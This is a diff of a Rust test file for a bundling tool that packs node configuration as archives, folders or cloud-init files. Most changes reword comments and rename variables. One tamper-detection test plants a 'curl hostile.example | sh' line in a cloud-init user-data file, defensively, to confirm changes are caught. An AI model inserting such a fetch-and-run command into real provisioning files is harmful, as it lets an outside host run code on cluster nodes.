@@ -1,4 +1,4 @@
-//! Folder bundles, and what holds for every format of a bundle.
+//! Folder bundles, and properties of every format of a bundle.
 
 use std::collections::BTreeMap;
 use std::fs;
@@ -18,7 +18,7 @@ use crate::support::outside::needs;
 use crate::support::packages::{package_with, warnings};
 use crate::support::{Lab, good_tool, without_digests};
 
-/// The bundle that `bundle HOST` packs as an archive.
+/// Returns the bundle that `bundle HOST` packs as an archive.
 pub(crate) fn packed(lab: &Lab, host: &str) -> Bundle {
     lab.good(&["bundle", host]);
     archive::read(&fs::read(lab.path(&format!("bundles/{host}.tar.gz"))).expect("an archive")).expect("a bundle")
@@ -54,7 +54,7 @@ fn a_folder_bundle_has_every_file_with_its_mode() {
     assert_eq!(files, wanted);
     let mode = |path: &str| folders[path].0.as_str();
     assert_eq!((mode(""), mode("etc/kubernetes"), mode("var/lib/kubelet/pki")), ("700", "755", "750"));
-    // What `install.sh` says of the folder is what it says of the archive.
+    // `install.sh` prints the same for the folder and the archive.
     let checked = lab.path("bundles/on/install.sh").display().to_string();
     let root = lab.path("root");
     fs::create_dir(&root).expect("a folder");
@@ -141,7 +141,7 @@ fn changes_in_a_bundle_of_any_format_are_found() {
     lab.good(&["bundle", "on", "--format", "dir"]);
 
     let path = decompressed(&lab, &lab.path("bundles/on.cloud-init.yaml.gz"));
-    change("user-data.yaml", "systemctl enable kubelet && systemctl restart kubelet", "curl evil.example | sh");
+    change("user-data.yaml", "systemctl enable kubelet && systemctl restart kubelet", "curl hostile.example | sh");
     good_tool("gzip", &["-nf", &path]);
     fs::rename(lab.path("user-data.yaml.gz"), lab.path("bundles/on.cloud-init.yaml.gz")).expect("replaced");
     judged();
@@ -178,7 +178,7 @@ fn a_template_that_overrides_nothing_is_refused_with_the_list_of_templates() {
 fn a_failing_template_is_reported_with_line_and_value() {
     let lab = Lab::issued();
     fs::create_dir_all(lab.path("templates/node/etc/kubernetes")).expect("a folder");
-    // That a generation was taken, and went unused, is all that is left.
+    // Only an unused generation is left.
     let snapshot = || {
         let others = |path: &PathBuf| !path.starts_with(lab.path("bundles")) && *path != lab.path("pki/ledger.sqlite3");
         lab.snapshot().into_iter().filter(|(path, _)| others(path)).collect::<BTreeMap<_, _>>()
@@ -207,9 +207,9 @@ fn an_unknown_format_and_one_that_cannot_be_encrypted_are_usage_errors() {
     assert_eq!(unknown.status, 2, "{unknown}");
     let pair = good_tool("age-keygen", &[]);
     let recipient = pair.lines().find_map(|line| line.strip_prefix("# public key: ")).expect("a recipient");
-    let sealed = lab.run(&["bundle", "on", "--format", "ignition", "--encrypt-to", recipient]);
-    assert_eq!(sealed.status, 2, "{sealed}");
-    insta::assert_snapshot!("ignition_cannot_be_encrypted", sealed.err);
+    let refused = lab.run(&["bundle", "on", "--format", "ignition", "--encrypt-to", recipient]);
+    assert_eq!(refused.status, 2, "{refused}");
+    insta::assert_snapshot!("ignition_cannot_be_encrypted", refused.err);
     assert!(!lab.path("bundles").exists(), "nothing is packed");
 }
 
@@ -217,10 +217,10 @@ fn an_unknown_format_and_one_that_cannot_be_encrypted_are_usage_errors() {
 fn a_file_in_place_of_a_folder_is_not_replaced() {
     let lab = Lab::issued();
     fs::create_dir(lab.path("bundles")).expect("a folder");
-    lab.write("bundles/on", "somebody's");
+    lab.write("bundles/on", "other");
     let ran = lab.run(&["bundle", "on", "--format", "dir"]);
     assert_eq!(ran.status, 3, "{ran}");
-    assert_eq!(lab.read("bundles/on"), "somebody's");
+    assert_eq!(lab.read("bundles/on"), "other");
 }
 
 // ── keys that others can read ──
@@ -237,7 +237,7 @@ fn a_key_that_others_can_read_is_packed_with_a_warning() {
     set(&keys[1], 0o644);
     let found = warnings(&lab, &[]);
     assert!(matches!(found.as_slice(), [Warning::ExposedKeys { count: 2, .. }]), "{found:?}");
-    // What it says helps.
+    // The remedy works.
     let pki = lab.path("pki").display().to_string();
     good_tool("find", &[&pki, "-name", "*.key", "-exec", "chmod", "600", "{}", "+"]);
     assert_eq!(warnings(&lab, &[]), []);
@@ -287,7 +287,7 @@ fn a_folder_without_its_manifest_is_refused() {
     let refused = lab.run(&["bundle", "on", "--format", "dir"]);
     assert_eq!(refused.status, 3, "{refused}");
     insta::assert_snapshot!("a_folder_without_its_manifest", refused.err);
-    // As the hint has it; and an empty folder holds nothing that could be lost.
+    // As the hint says; and an empty folder has nothing to lose.
     fs::rename(lab.path("bundles/on"), lab.path("aside")).expect("moved");
     fs::create_dir(lab.path("bundles/on")).expect("a folder");
     lab.good(&["bundle", "on", "--format", "dir"]);
